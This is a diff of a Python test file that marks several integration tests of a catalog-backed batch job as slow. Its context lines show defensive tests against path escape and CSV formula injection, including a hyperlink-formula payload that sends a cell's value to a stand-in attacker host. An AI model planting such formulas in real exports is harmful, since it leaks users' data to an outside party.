@@ -51,6 +51,7 @@ def finish(proc: subprocess.Popen[str], timeout: float = 300) -> tuple[int, str]
 # --- 1, 2: two runs at once -------------------------------------------------------------------
 
 
+@pytest.mark.slow
 def test_two_runs_at_once_on_a_new_sqlite_catalog_both_write_every_line(
     embedded_env: dict[str, str], tiny_model: Path, print_lines: Path, tmp_path: Path
 ) -> None:
@@ -77,6 +78,7 @@ def test_two_runs_at_once_on_a_new_sqlite_catalog_both_write_every_line(
     assert status["lines"] == {"pending": 0, "ok": 12, "error": 0} and status["shards"]["done"] == 6
 
 
+@pytest.mark.slow
 def test_two_runs_at_once_on_a_new_postgres_catalog(
     embedded_env: dict[str, str], postgres_server, tiny_model: Path, print_lines: Path, tmp_path: Path
 ) -> None:
@@ -121,6 +123,7 @@ def broken_copy(model: Path, where: Path, how: str) -> Path:
     return folder
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("how", ["truncated", "corrupt", "missing", "shape"])
 def test_a_model_that_will_not_load_is_the_nodes_fault(
     how: str, embedded_env: dict[str, str], tiny_model: Path, print_lines: Path, tmp_path: Path
@@ -286,6 +289,7 @@ def test_names_in_other_scripts_are_fine_and_a_default_name_is_made_valid(tmp_pa
     assert default_name(str(tmp_path / "лист 7") + "/") == "лист-7"
 
 
+@pytest.mark.slow
 def test_an_old_catalogs_hostile_name_cannot_write_outside_the_working_folder(
     embedded_env: dict[str, str], tiny_model: Path, print_lines: Path, tmp_path: Path
 ) -> None:
@@ -314,6 +318,7 @@ def test_an_old_catalogs_hostile_name_cannot_write_outside_the_working_folder(
 FORMULA_KEYS = ['=HYPERLINK("https:evil.example?d="&A1,"ok").png', "+cmd.png", "-2+3.png", "@SUM(1).png", "'quoted.png", "\tTab.png"]
 
 
+@pytest.mark.slow
 def test_formula_keys_are_inert_in_every_csv_and_come_back_exact(
     embedded_env: dict[str, str], tiny_model: Path, print_lines: Path, tmp_path: Path
 ) -> None:
@@ -364,6 +369,7 @@ def blank_model(tmp_path_factory: pytest.TempPathFactory, tiny_model: Path) -> P
     return folder
 
 
+@pytest.mark.slow
 def test_an_empty_reading_that_never_ends_has_a_confidence(
     blank_model: Path, embedded_env: dict[str, str], print_lines: Path, tmp_path: Path
 ) -> None:
